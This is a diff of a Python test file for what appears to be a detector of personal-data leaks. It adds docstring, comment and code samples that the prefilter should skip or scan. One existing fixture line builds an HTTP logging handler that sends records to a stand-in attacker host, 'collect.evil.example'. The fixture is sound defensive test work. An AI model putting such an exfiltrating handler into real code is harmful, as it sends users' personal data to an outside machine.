@@ -75,6 +75,10 @@ def test_a_raise_of_an_object_whose_class_in_another_file_prints_personal_data_i
     "EMAIL_BACKEND = 'smtp'\n",  # a strong word the classifier rejects
     "import simple_parsing\nfrom auth import box\n",  # words from SDK names, not the SDK roots
     "import logging\nlogging.getLogger('shop').addHandler(logging.StreamHandler())\n",  # records stay here
+    # personal data named only in a docstring or a comment: the analysis reads no data there
+    'def add(a, b):\n    """Add up the customer_email rows of a user\'s export."""\n    return a + b\n',
+    "def add(a, b):\n    # the user's email address is never read here\n    return a + b  # nor customer_email\n",
+    '"""The customer_email export."""\nTOTAL = 0\n',
 ])
 def test_skips_files_that_cannot_yield_a_finding(source):
     assert not PF.may_yield(source)
@@ -97,6 +101,10 @@ def test_skips_files_that_cannot_yield_a_finding(source):
     # a handler that sends log records to another machine, called or named in a dictConfig dict
     "import logging.handlers\nh = logging.handlers.HTTPHandler('collect.evil.example', '/logs')\n",
     "LOGGING = {'handlers': {'r': {'class': 'logging.handlers.SysLogHandler', 'address': ('h.example', 514)}}}\n",
+    # beside a docstring and a comment, the same words in code: a key, a name, an f-string's field
+    'def f(row):\n    """Nothing personal."""\n    print(row["date of birth"])  # a comment\n',
+    'def f(rows):\n    """Nothing personal."""\n    # customer_email\n    return [customer_email for customer_email in rows]\n',
+    'def f(user):\n    """Nothing personal."""\n    f"{print(user.email)}"\n',
 ])
 def test_opens_files_that_may_yield_a_finding(source):
     assert PF.may_yield(source)
